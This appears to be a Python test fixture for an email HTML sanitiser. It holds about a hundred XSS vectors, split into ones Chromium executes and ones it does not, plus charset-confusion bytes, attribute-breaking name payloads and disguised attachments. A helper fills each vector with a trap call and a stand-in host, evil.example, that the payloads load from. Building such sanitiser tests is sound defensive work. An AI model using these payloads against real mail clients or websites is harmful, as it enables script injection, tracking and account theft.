"""What somebody might send by mail who means no good: HTML that would run, load or lead away. Our own wording.

`RUN` in a vector calls the trap with the vector's number, `URL` is an address of the attacker's with that number,
`SCRIPT` a script that does the former, in base64.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage

# Those that Chromium runs, or loads from, when nobody makes them safe: the trap must catch each of them.
LIVE = (
    "<script>RUN</script>",
    "<ScRiPt type='text/javascript'>RUN</sCrIpT >",
    "<script/x>RUN</script/y>",
    "<script type=module>RUN</script>",
    "<script src='URL'></script>",
    "<script src='data:text/javascript,RUN'></script>",
    "<script\t\n\f>RUN</script>",
    "<script><!--\nRUN//--></script>",
    "<img src=x onerror=RUN>",
    "<img/src/onerror=RUN>",
    "<img src=x OnErRoR='&#82;&#85;N' alt='`'><img src=x onerror=RUN>",
    '<img src="x" title="a>b" onerror="RUN">',
    "<img src=x:x onerror\n=\nRUN>",
    "<IMG SRC=x ONERROR=RUN//>",
    "<img src=x onerror=&#9;RUN>",
    "<img src='cid:x' onerror=RUN>",
    "<img src='cid:\"><script>RUN</script>' onerror='RUN'>",
    "<img src='URL'>",
    "<img srcset='URL 1x, URL/2 2x'>",
    "<picture><source srcset='URL'><img src='cid:x'></picture>",
    "<p style='background: url(URL)'>x</p>",
    "<p style='background-color: red; background-image: u\\72l(\"URL\")'>x</p>",
    "<ul style='list-style: url(URL)'><li>x</li></ul>",
    "<p style='border: 1em solid; border-image: url(URL) 1'>x</p>",
    "<table background='URL'><tr><td>x</td></tr></table>",
    "<style>@import 'URL';</style>",
    "<style>@import url(URL) screen;</style>x",
    "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x</p>",
    "<style>body { background: url(URL) }</style>x",
    "<link rel=stylesheet href='URL'>",
    "<link rel=preload as=image href='URL'>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'></script></svg>",
    "<svg><animate attributeName=x dur=1s onbegin=RUN></svg>",
    "<svg><image href='URL'></svg>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><title><img src=x onerror=RUN></title></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    "<video src=x onerror=RUN></video>",
    "<video poster='URL'></video>",
    "<audio src=x onerror=RUN></audio>",
    "<video><source onerror=RUN src=x></video>",
    "<object data='data:text/html;base64,SCRIPT'></object>",
    "<object data='URL'></object>",
    "<embed src='URL'>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=RUN&gt;'></iframe>",
    "<iframe src='data:text/html;base64,SCRIPT'></iframe>",
    "<iframe src='URL'></iframe>",
    "<iframe onload=RUN></iframe>",
    "<input type=image src='URL'>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<form onsubmit=RUN action='URL'><button>Continuer</button></form><p onclick=RUN>x</p>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<p onmouseover=RUN>survolez</p>",
    "<b onclick=RUN tabindex=0>x</b>",
    "<div contenteditable oninput=RUN onfocus=RUN tabindex=1>x</div>",
    "<p style='animation: a 1s' onanimationstart=RUN>x</p><style>@keyframes a {}</style>",
    "<a href='javascript:RUN'>x</a>",
    "<a href='JaVaScRiPt:RUN'>x</a>",
    "<a href=' &#1; javascript:RUN'>x</a>",
    "<a href='java\tscr\nipt:RUN'>x</a>",
    "<a href='javascript&colon;RUN'>x</a>",
    "<a href='&#x6A;&#97vascript&#58;RUN'>x</a>",
    "<a href='javascript&#x3A;//%0ARUN'>x</a>",
    "<svg><a href='javascript:RUN'><text y=9>x</text></a></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
    "<math><a xlink:href='javascript:RUN'>x</a></math><a href='javascript:RUN'>x</a>",
    "<map name=m><area shape=default href='javascript:RUN'></map><img usemap=#m src=cid:x>",
    "<form action='javascript:RUN'><input type=submit></form>",
    "<form><button formaction='javascript:RUN'>x</button></form>",
    "<!--><img src=x onerror=RUN>-->",
    "<!--[if gte mso 9]><!--><img src=x onerror=RUN><!--<![endif]-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml version='1.0'?><img src=x onerror=RUN>",
    "</title></textarea></style></noscript></template></xmp><img src=x onerror=RUN>",
    "<b <script>RUN</script>><script>RUN</script>",
    "<<script>RUN</script>",
    "<p/<img src=x onerror=RUN>><img src=x onerror=RUN>",
    "<table><td><script>RUN</script></table>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><p title='</style><img src=x onerror=RUN>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></p></xmp>",
    "<a href='data:text/html;base64,SCRIPT'>x</a>",
    "<body onload=RUN>",
    "<body background='URL'>",
    "<p id=x tabindex=1 onfocus=RUN></p>",
    "<x onclick=RUN tabindex=1>x</x>",
    "<custom-part onmouseover=RUN>x</custom-part>",
    "<base href='URL/'><img src='relative.png'>",
)
# Those that no present browser runs by itself, or only a sanitiser's own mistake would bring to life.
DORMANT = (
    "<marquee onstart=RUN>x</marquee>",
    "<IMG SRC=x ONERROR=RUN//",
    "<img src='javascript:RUN'>",
    "<img dynsrc='javascript:RUN' lowsrc='javascript:RUN'>",
    "<p style='width: expression(RUN)'>x</p>",
    "<p style='behavior: url(URL)'>x</p>",
    "<p style='-moz-binding: url(URL#x)'>x</p>",
    "<a href='vbscript:RUN'>x</a>",
    "<a href='livescript:RUN'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv='Set-Cookie' content='hacked=1'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\"><img src='cid:x'>",
    "<style><img src='</style' title='<img src=x onerror=RUN>'></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<svg><style><a title='</style><img src=x onerror=RUN>'></style></svg>",
    "<select><template><p title='</template></select><img src=x onerror=RUN>'></p></template></select>",
    "<p title='&quot; onmouseover=RUN x=&quot;'>x</p>",
    "<p title='`\"&#39; onmouseover=RUN '>x</p>",
    "<img alt='\" onerror=RUN ' src=cid:x>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "<plaintext><img src=x onerror=RUN>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'>',
    "<img src='cid:../../sign-out/' alt='cid'>",
    "<img src='cid:x' data-src='javascript:RUN'>",
    "<div hx-get='/sign-out/' hx-trigger='load' hx-on:load='RUN' data-hx-on='load: RUN'>x</div>",
    "<p data-key='r' data-dialog='x' data-command='x' id='sheet' class='toast' name='forms'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 99999; background: red'>Connectez-vous</p>",
    "{{ constructor.constructor('RUN')() }} {% load x %} ${RUN} <%= RUN %> #{RUN}",
)
VECTORS = LIVE + DORMANT

# Where names stand: in pages of ours, next to attributes of ours.
NAMES = (
    "<script>RUN</script>", "\"><img src=x onerror=RUN>", "'><svg onload=RUN>", "</title><script>RUN</script>",
    "x' onmouseover='RUN", "x\" autofocus onfocus=\"RUN", "javascript:RUN", "&lt;img src=x onerror=RUN&gt;",
)  # fmt: skip
# Bytes that are markup only if they are read in another charset than they are in: declared one, meaning the other.
CHARSETS = (
    ("utf-7", b"+ADw-script+AD4-RUN+ADw-/script+AD4-"),
    ("us-ascii", b"+ADw-img src+AD0-x onerror+AD0-RUN+AD4-"),
    ("utf-16", "<script>RUN</script>".encode("utf-16")),
    ("utf-8", b"\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe"),
    ("us-ascii", b"\xbcscript\xbeRUN\xbc/script\xbe"),
    ("iso-2022-jp", b"<p title='\x1b$B'>\x1b(B<img src=x onerror=RUN>"),
    ("x-user-defined", b"<img src=x onerror=RUN>"),
    ("utf-8", b"<scr\x00ipt>RUN</scr\x00ipt><img src=x o\x00nerror=RUN>"),
)
FILES = (
    ("page.html", "text", "html", b"<script>RUN</script>"),
    ("dessin.svg", "image", "svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"),
    ("photo.png", "image", "png", b"<html><script>RUN</script>"),
    ("page.xhtml", "application", "xhtml+xml", b"<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>"),
    ("<img src=x onerror=RUN>.txt", "text", "plain", b"RUN"),
    ('"><script>RUN<|script>.png', "image", "png", b"\x89PNG\r\n\x1a\n"),
)


def armed(vector: str, number: int) -> str:
    run = f"__xss({number})"
    script = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    return vector.replace("SCRIPT'", f"{script}'").replace("RUN", run).replace("URL", f"https://evil.example/{number}")


def html_message(message: EmailMessage, html: str) -> EmailMessage:
    """That message with nothing but this HTML in it, and a picture that it may show."""
    message.set_content(html, subtype="html")
    message.add_related(b"GIF89a", maintype="image", subtype="gif", cid="<x>")
    return message


def with_charset(head: bytes, charset: str, body: bytes) -> bytes:
    return head + b"Content-Type: text/html; charset=" + charset.encode() + b"\n\n" + body
